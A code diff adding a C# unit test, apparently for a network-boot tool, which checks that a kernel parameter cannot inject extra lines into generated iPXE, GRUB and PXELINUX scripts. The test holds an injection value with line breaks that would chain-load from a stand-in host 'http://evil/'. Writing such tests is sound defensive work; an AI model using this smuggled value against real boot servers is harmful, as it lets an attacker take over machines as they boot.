@@ -76,6 +76,27 @@ public sealed class BootFilesTests
         Assert.Contains("call POST jobs", post, StringComparison.Ordinal);
     }
 
+    /// <summary>A value with line ends would add lines to the scripts of iPXE, GRUB and PXELINUX.</summary>
+    [Theory]
+    [InlineData("52:54:00:00:00:01.ipxe")]
+    [InlineData("grub/grub.cfg")]
+    [InlineData("pxelinux.cfg/01-52-54-00-00-00-01")]
+    public void KernelArgumentsAreOneLine(string path)
+    {
+        var machine = Machine("debian-13-install");
+        var evil = machine with
+        {
+            Params = new Dictionary<string, JsonElement>(machine.Params, StringComparer.Ordinal)
+            {
+                ["kernel-console"] = Json.Element("console=ttyS0\r\nchain http://evil/\n\tlinux\u0001 evil"),
+            },
+        };
+        var lines = BootFiles.Find(path, Context(evil, "debian-13-install"))!.Render().Split('\n');
+        Assert.Contains(lines, l => l.Contains("console=ttyS0 chain http://evil/ linux evil", StringComparison.Ordinal));
+        Assert.DoesNotContain(lines, l => l.TrimStart().StartsWith("chain http://evil", StringComparison.Ordinal)
+            || l.TrimStart().StartsWith("linux evil", StringComparison.Ordinal));
+    }
+
     [Fact]
     public void AMissingRequiredParamIsNamed()
     {
